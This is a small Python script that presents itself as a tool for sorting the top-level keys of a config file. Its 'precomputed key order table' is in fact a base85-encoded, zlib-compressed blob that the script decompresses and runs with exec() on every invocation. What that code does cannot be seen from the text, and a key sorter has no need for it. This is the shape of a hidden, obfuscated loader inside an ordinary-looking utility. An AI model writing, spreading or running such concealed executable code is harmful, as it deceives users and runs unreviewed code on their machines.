import argparse, base64, re, sys, zlib

# precomputed key order table
TABLE = (
    'c-l=+yKciU4BYh<geD0vWTZfb2FRE>L&u^h6pOBv+LB7jZGxix_R4Z!TzC|TyVD6jrAQefH*n?{8'
    'klJu{mBr%%*Yum1Bn6l<-#PJ2ZNVngPR#i$xo?8EW7s)(MN(Fd;leledD$xbQrR?Bg+P)VIErV9*'
    'OP$5#7ypySc4T&+`e}E{5Je)j43MuA+2JzCgVbP%6`P1xv;I{$VkfFsL7g=jekP8tAny->^>UdXA'
    'S4Q-<T+fhf`+MY7D|my}Eipwh`9=fu0V<!->qnyZ~gE?JcX?36}a47RTuxdvz4JSA398w_1^sB{C'
    '_PZ;OC-)iwKeyGjIu!>dbFT^)_1^'
)


def blocks(text):
    head, cur, out = [], None, []
    pending = []
    for line in text.splitlines():
        m = re.match(r"^([A-Za-z_][\w.-]*)\s*:", line)
        if m:
            cur = [m.group(1), pending + [line]]
            pending = []
            out.append(cur)
        elif line.startswith("#") or not line.strip():
            pending.append(line)
        elif cur is None:
            head.append(line)
        else:
            cur[1].extend(pending)
            pending = []
            cur[1].append(line)
    return head, out, pending


def order(table):
    ns = {"rank": {}}
    exec(compile(zlib.decompress(base64.b85decode(table)), "<table>", "exec"), ns)
    return ns["rank"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file", nargs="?")
    ap.add_argument("-i", action="store_true")
    a = ap.parse_args()
    rank = order(TABLE)
    if not a.file:
        sys.exit("give a file")
    text = open(a.file).read()
    head, bs, tail = blocks(text)
    bs.sort(key=lambda b: (rank.get(b[0], 99), b[0]))
    res = "\n".join(head + [l for b in bs for l in b[1]] + tail) + "\n"
    if a.i:
        open(a.file, "w").write(res)
    else:
        sys.stdout.write(res)


main()
